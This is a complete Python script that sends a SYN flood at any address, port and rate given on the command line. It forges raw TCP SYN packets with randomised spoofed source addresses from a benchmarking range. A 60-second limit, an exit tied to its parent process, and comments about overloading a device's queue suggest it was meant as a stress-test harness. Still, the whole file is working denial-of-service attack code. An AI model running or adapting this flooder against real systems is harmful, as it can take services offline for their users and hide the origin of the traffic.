#!/usr/bin/env python3
"""SYNs from addresses that never answer: flood.py ADDRESS PORT RATE. Ends when its parent does, or after 60 s."""
import os
import random
import socket
import struct
import sys
import time


def total(data):
    n = sum(struct.unpack(f"!{len(data) // 2}H", data))
    n = (n >> 16) + (n & 0xFFFF)
    return ~(n + (n >> 16)) & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 2, 64240, 0, 0)
    check = total(src + dst + struct.pack("!HH", 6, len(tcp)) + tcp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, src, dst)  # the kernel fills the rest
    return ip + tcp[:16] + struct.pack("!H", check) + tcp[18:]


def main():
    to, port, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    dst, r, parent = socket.inet_aton(to), random.Random(1), os.getppid()
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    end = time.monotonic() + 60
    sent = 0
    while time.monotonic() < end and os.getppid() == parent:
        for _ in range(rate // 50):
            src = struct.pack("!BBH", 198, 18, r.randrange(1, 65535))  # RFC 2544: nobody is there
            try:
                s.sendto(syn(src, dst, r.randrange(1024, 65535), port, r.randrange(1 << 32)), (to, 0))
            except OSError:  # the device's queue is full, or its driver just died
                pass
            sent += 1
        if sent // rate != (sent - rate // 50) // rate:
            print(sent, flush=True)
        time.sleep(0.02)


main()
